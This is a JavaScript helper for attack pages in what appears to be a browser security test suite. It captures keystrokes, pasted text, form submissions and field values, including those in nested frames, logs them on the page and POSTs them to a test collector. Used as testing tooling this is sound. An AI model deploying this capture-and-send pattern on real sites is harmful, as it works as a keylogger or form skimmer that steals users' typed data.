// What an attack page learns, it writes into its own log, where anyone can read it, and to the collector of `npm run attacks`.
// A classic script, without modules, so that it works in a sandbox, in a `data:` document and from a file.

;(() => {
  const script = document.currentScript
  const collector = new URL('/collected', script.src)
  // `document.open` runs this again in the document that it was.
  const nonce = self.attack?.nonce ?? Math.random().toString(36).slice(2)
  const list = document.createElement('ol')
  list.className = 'log'

  /** Synchronous: once the page's own code goes on, the collector has it. */
  function tell(what, value = '') {
    const entry = { page: location.pathname + location.search, nonce, origin: self.origin, what, value }
    show(entry)
    const request = new XMLHttpRequest()
    request.open('POST', collector, false)
    try {
      request.send(JSON.stringify(entry))
    } catch {
      // Opened from a file, or without the collector: the list on the page is all there is.
    }
  }

  function show({ what, value }) {
    const item = document.createElement('li')
    item.textContent = value === '' ? what : `${what}: ${value}`
    list.append(item)
    if (!list.isConnected) document.body?.append(list)
  }

  const typed = [
    'beforeinput',
    'input',
    'change',
    'keydown',
    'keypress',
    'keyup',
    'paste',
    'compositionend',
    'submit',
  ]
  for (const type of typed) {
    const listen = event => {
      const [target] = event.composedPath()
      tell(type, String(event.data ?? event.key ?? target.value ?? ''))
    }
    addEventListener(type, listen, true)
  }

  /** The fields' values, for whatever came in without an event; then the same of the frames within. */
  async function tellValues() {
    const values = [...document.querySelectorAll('input, textarea')].map(({ value }) => value)
    tell('values', values.join(''))
    for (const frame of Array.from({ length: frames.length }, (_, at) => frames[at])) {
      const told = new Promise(resolve =>
        addEventListener('message', ({ source }) => source === frame && resolve()),
      )
      frame.postMessage('tell values', '*')
      await told
    }
    return true
  }

  addEventListener('message', async ({ data, source }) => {
    if (data !== 'tell values') return
    await tellValues()
    source.postMessage('told values', '*')
  })

  addEventListener('pageshow', ({ persisted }) => persisted && tell('came back'))
  document.addEventListener('prerenderingchange', () => tell('activated'))

  self.attack = { nonce, list, tell, tellValues }
  tell('arrived', document.prerendering ? 'ahead of time' : '')
})()
